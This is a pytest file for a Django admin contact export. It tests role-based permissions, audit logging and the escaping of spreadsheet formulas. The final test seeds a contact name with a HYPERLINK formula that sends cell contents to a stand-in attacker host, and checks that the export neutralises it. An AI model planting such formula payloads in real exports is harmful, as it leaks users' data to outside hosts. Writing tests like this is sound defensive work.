"""Taking the contacts away: the admin export needs its own permission, leaves deleted contacts out
unless an Admin asks, is audited with its row count, and writes no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from accounts.models import AuditLog
from contacts.services import contact_soft_delete

pytestmark = pytest.mark.django_db

EXPORT = "/admin/contacts/contact/export/"


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def export(client, query: str = ""):
    page = client.get(f"{EXPORT}{query}")
    if page.status_code != 200:
        return page
    fields = {name: "on" for name in page.context["form"].fields if name.startswith("contactresource_")}
    return client.post(f"{EXPORT}{query}", {"format": "0", "resource": "0", **fields})


def rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_viewer_cannot_export_contacts_and_the_refusal_is_audited(viewer, make_contact):
    make_contact(name="Asha", phone="+919876543210")
    client = signed_in(viewer)

    response = export(client)

    assert response.status_code == 403
    assert AuditLog.objects.filter(action="forbidden", actor=viewer.email).exists()
    assert not AuditLog.objects.filter(action="contacts.export").exists()
    listing = client.get("/admin/contacts/contact/")
    assert "export_admin_action" not in listing.text


def test_an_operator_exports_without_deleted_contacts_even_when_asking_and_it_is_audited(operator, make_contact):
    make_contact(name="Kept", phone="+919876543210")
    gone = make_contact(name="Gone", phone="+919876543211")
    contact_soft_delete(contact=gone, actor=None)

    response = export(signed_in(operator), "?deleted=all")

    assert response.status_code == 200
    assert [row["name"] for row in rows(response)] == ["Kept"]
    entry = AuditLog.objects.get(action="contacts.export")
    assert entry.actor == operator.email
    assert entry.details["rows"] == 1 and entry.details["include_deleted"] is False


def test_an_admin_who_asks_gets_the_deleted_contacts_too(admin_role_user, make_contact):
    make_contact(name="Kept", phone="+919876543210")
    gone = make_contact(name="Gone", phone="+919876543211")
    contact_soft_delete(contact=gone, actor=None)
    client = signed_in(admin_role_user)

    plain = export(client)
    asked = export(client, "?deleted=all")

    assert [row["name"] for row in rows(plain)] == ["Kept"]
    assert sorted(row["name"] for row in rows(asked)) == ["Gone", "Kept"]
    audits = AuditLog.objects.filter(action="contacts.export").order_by("timestamp")
    assert [(a.details["rows"], a.details["include_deleted"]) for a in audits] == [(1, False), (2, True)]


def test_a_whatsapp_profile_name_that_is_a_formula_is_exported_as_text(operator, make_contact):
    make_contact(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', phone="+919876543210")
    make_contact(name="@SUM(1+1)", phone="+919876543211")

    names = sorted(row["name"] for row in rows(export(signed_in(operator))))

    assert names == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(1+1)"]
